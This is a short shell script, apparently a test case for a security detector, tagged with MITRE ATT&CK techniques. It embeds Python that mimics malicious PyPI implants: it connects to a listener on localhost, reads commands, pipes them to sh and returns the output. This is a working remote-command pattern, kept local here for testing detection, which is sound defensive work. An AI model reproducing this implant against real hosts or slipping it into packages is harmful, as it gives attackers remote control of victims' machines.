#!/bin/sh
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1059.006 Python; T1071.001 Application Layer Protocol
# reproduces: Python implants of malicious PyPI packages that keep the shell off the socket: they read commands from their C2 and hand them to `sh` through a pipe (subprocess.Popen(["sh"], stdin=PIPE)), sending the output back themselves
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# No descriptor of sh is a socket and no program writes its stdin pipe:
# the python process that connected does, from its own memory.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

python3 - 127.0.0.1 "${BW_ATTACK_LISTEN_PORT:?}" <<'PY'
import socket
import subprocess
import sys

conn = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
commands = b""
while not commands.endswith(b"exit\n"):
    chunk = conn.recv(4096)
    if not chunk:
        break
    commands += chunk
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT)
output, _ = shell.communicate(commands)
conn.sendall(output)
conn.close()
PY
